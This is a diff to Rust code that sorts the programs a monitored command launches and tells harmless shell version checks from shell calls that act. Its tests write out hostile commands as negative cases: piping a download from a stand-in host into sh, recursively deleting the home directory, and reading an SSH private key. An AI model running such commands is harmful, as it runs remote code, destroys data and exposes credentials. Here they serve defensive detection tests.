@@ -58,8 +58,13 @@ pub(crate) fn ran<'a>(
         else {
             continue;
         };
+        if deed.is_start_of_script() {
+            continue;
+        }
         let name = base(path);
-        let what = if written.contains(path.as_str()) || anybody_writes(path) {
+        let fetched =
+            written.contains(path.as_str()) || anybody_writes(path) && !brought(facts, path);
+        let what = if fetched {
             Ran::Fetched
         } else if own.iter().any(|own| *own == path || *own == name) {
             continue;
@@ -77,11 +82,7 @@ pub(crate) fn ran<'a>(
         } else {
             Ran::Program
         };
-        let told = if arguments.is_empty() {
-            path.clone()
-        } else {
-            arguments.clone()
-        };
+        let told = format!("{name} {arguments}").trim_end().to_owned();
         if !all.iter().any(|(_, known, _)| *known == told) {
             all.push((what, told, frame));
         }
@@ -101,8 +102,20 @@ fn own(facts: &Facts) -> BTreeSet<&str> {
         .filter_map(|session| session.program.as_ref());
     let mut own: BTreeSet<&str> = programs.map(|program| program.path.as_str()).collect();
     own.extend(command.first().map(|word| base(word)));
-    own.extend(["env", "node", "python", "python3"]);
     own
+}
+
+/// Whether a path lies among the command's own files.
+fn brought(facts: &Facts, path: &str) -> bool {
+    let fences = facts
+        .sessions
+        .iter()
+        .filter_map(|session| session.fence.as_ref());
+    let mut own = fences.flat_map(|(fence, _)| &fence.own);
+    own.any(|own| {
+        let below = path.strip_prefix(own.as_str());
+        below.is_some_and(|rest| rest.starts_with('/'))
+    })
 }
 
 fn base(path: &str) -> &str {
@@ -145,10 +158,8 @@ fn launches(facts: &Facts, arguments: &str) -> bool {
 
 /// What a shell was told to do: all after `-c`.
 fn said(arguments: &str) -> Option<&str> {
-    let (_, said) = arguments
-        .split_once(" -c ")
-        .or_else(|| arguments.split_once(" -lc "))?;
-    Some(said.trim())
+    let (option, said) = arguments.split_once(' ')?;
+    ["-c", "-lc", "-ec"].contains(&option).then(|| said.trim())
 }
 
 /// Whether a command is one program and its words, with nothing that a shell would make more of.
@@ -189,18 +200,18 @@ mod tests {
     #[test]
     fn a_shell_that_asks_for_a_version_is_told_from_one_that_acts() {
         for asks in [
-            "sh -c git --version",
-            "/bin/sh -c which git 2>/dev/null",
-            "sh -c command -v docker",
-            "sh -c uname -p 2>&1",
+            "-c git --version",
+            "-c which git 2>/dev/null",
+            "-c command -v docker",
+            "-c uname -p 2>&1",
         ] {
             assert!(asks_version(asks), "{asks}");
         }
         for acts in [
-            "sh -c curl http://a.example | sh",
-            "sh -c rm -rf ~ --version; true",
-            "bash -i",
-            "sh -c cat ~/.ssh/id_rsa",
+            "-c curl http://a.example | sh",
+            "-c rm -rf ~ --version; true",
+            "-i",
+            "-c cat ~/.ssh/id_rsa",
         ] {
             assert!(!asks_version(acts), "{acts}");
         }
